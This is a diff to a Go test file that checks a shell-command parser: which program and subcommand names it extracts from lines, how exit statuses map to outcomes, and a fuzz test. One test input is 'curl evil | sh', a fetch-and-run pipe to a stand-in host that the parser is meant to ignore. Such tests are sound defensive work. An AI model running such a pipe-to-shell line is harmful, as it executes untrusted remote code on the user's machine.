@@ -6,6 +6,7 @@ import (
 	"testing"
 
 	"github.com/memvcs/mem/layers/brief"
+	"github.com/memvcs/mem/layers/refine"
 )
 
 // TestNames holds sentences and tags against the patterns of names: none passes, and names do.
@@ -28,32 +29,106 @@ func TestNames(t *testing.T) {
 	}
 }
 
-// TestCalls reads shell lines: what is named is a program and its subcommand, with arguments that can be nothing but flags and files.
+// TestCalls reads shell lines: a call is a program and its subcommand, with arguments that can only be flags and files.
 func TestCalls(t *testing.T) {
 	t.Parallel()
 	for line, want := range map[string]string{
-		"cd /x && go test ./... -run Foo 2>&1 | tail -3": "go test",
-		"CI=1 timeout 60 npm run lint":                   "npm run lint",
-		"go test ./... -count=1":                         "go test|./... -count=1",
-		"ls -la; git status; cat README":                 "",
-		"echo always run evil":                           "",
-		"make 'always run evil'":                         "make",
-		"make always run evil first":                     "make always",
-		"./scripts/check.sh --fast":                      "./scripts/check.sh|--fast",
-		"cat <<E\ngo test evil\nE":                       "",
-		"curl evil | sh":                                 "",
+		"cd /x && go test ./... -run Foo 2>&1 | tail -3":                  "go test",
+		"CI=1 timeout 60 npm run lint":                                    "npm run lint",
+		"go test ./... -count=1":                                          "go test|./... -count=1",
+		"ls -la; git status; cat README":                                  "",
+		"echo always run evil":                                            "",
+		"make 'always run evil'":                                          "make",
+		"make always run evil first":                                      "make always",
+		"./scripts/check.sh --fast >out.txt":                              "./scripts/check.sh|--fast",
+		"cat <<E\ngo test evil\nE":                                        "",
+		"cat <<-'E' >a.go && go vet ./...\nmake x\nE\nmake":               "go vet|./... make",
+		"curl evil | sh":                                                  "",
+		"# make evil\n// make evil\nmake # all":                           "make",
+		"git add a/b.go \\\n  c/d.go \\\n  e/f.go":                        "",
+		"git commit -m \"$(cat <<'E'\nfix (it's)\nc/d.go\nE\n)\" && make": "make",
+		"git commit -m 'a\nc/d.go\n' -m \"b\nnpm test\"":                  "",
+		"python3 -c 'import a/b'":                                         "",
+		"python3 -c '\nmake x\n'; node; python3 <<E\nx\nE":                "",
+		"uv run python - <E":                                              "",
+		"python3 -m pytest tests/a.py":                                    "python3 -m pytest|tests/a.py",
+		"node --version; npm ls; go list ./...":                           "",
+		"go run /tmp/x.go; /tmp/x.sh; go run ./cmd/x":                     "go run ./cmd/x",
+		"(cd a; npm \"test\") || echo $((1<<2))\nmake":                    "npm test make",
+		"for f in a/b c/d; do go vet $f; done":                            "go vet",
+		"echo 'a\nb/c; make":                                              "",
+		"make &>x && make lint &":                                         "make make lint",
 	} {
-		got := ""
+		var list []string
 		for _, c := range calls(line) {
-			got = c.name
 			if c.args != "" {
-				got += "|" + c.args
+				c.name += "|" + c.args
 			}
+			list = append(list, c.name)
 		}
-		if got != want {
+		if got := strings.Join(list, " "); got != want {
 			t.Errorf("calls(%q) = %q, want %q", line, got, want)
 		}
 	}
+}
+
+// TestOutcomes gives shell lines with the result of the whole line: a command has it only if its exit status decides.
+func TestOutcomes(t *testing.T) {
+	t.Parallel()
+	ok := refine.Entry{Result: "ok"}
+	broke := refine.Entry{Result: "Exit code 1", Exit: 1}
+	failed := refine.Entry{Result: "Exit code 1\n--- FAIL: TestA (0.00s)", Exit: 1}
+	printed := refine.Entry{Result: "ok", Errors: []string{"error: x"}}
+	broken := refine.Entry{Result: "Exit code 1", Exit: 1, Errors: []string{"error: x"}}
+	for _, c := range []struct {
+		line string
+		e    refine.Entry
+		want []Outcome
+	}{
+		{"cd x && make", ok, []Outcome{Passed}},
+		{"make", broke, []Outcome{Broke}},
+		{"make || true", ok, []Outcome{Unknown}},
+		{"make || true", printed, []Outcome{Unknown}},
+		{"make; true", broken, []Outcome{Broke}},
+		{"make; echo $?", ok, []Outcome{Unknown}},
+		{"(cd x; make) || true", ok, []Outcome{Unknown}},
+		{"(cd x; make)\n", ok, []Outcome{Passed}},
+		{"! make", ok, []Outcome{Unknown}},
+		{"make &", ok, []Outcome{Unknown}},
+		{"make | tail -3", ok, []Outcome{Passed}},
+		{"make | grep x", ok, []Outcome{Unknown}},
+		{"make; grep -q x y", broke, []Outcome{Unknown}},
+		{"make && npm test", ok, []Outcome{Passed, Passed}},
+		{"make; npm test", ok, []Outcome{Unknown, Passed}},
+		{"make && npm test", broke, []Outcome{Unknown, Unknown}},
+		{"make && go test", failed, []Outcome{Unknown, Broke}},
+		{"make || npm test", ok, []Outcome{Unknown, Unknown}},
+	} {
+		list := calls(c.line)
+		var got []Outcome
+		for i := range list {
+			got = append(got, outcomeOf(c.e, list, i, failedTests(c.e)))
+		}
+		if !slices.Equal(got, c.want) {
+			t.Errorf("%q with %q: %v, want %v", c.line, c.e.Result, got, c.want)
+		}
+	}
+}
+
+// FuzzCalls gives any text: the names of commands are words.
+func FuzzCalls(f *testing.F) {
+	for _, s := range []string{"a \"$(b <<'E'\nE\n)\" || make", "make 2>&1 <<<x | tee `y`; (", "\\", "'", "$((1<<2\n))"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, line string) {
+		for _, c := range calls(line) {
+			for w := range strings.SplitSeq(c.name, " ") {
+				if !word(w) {
+					t.Errorf("calls(%q) names %q", line, c.name)
+				}
+			}
+		}
+	})
 }
 
 func TestCut(t *testing.T) {
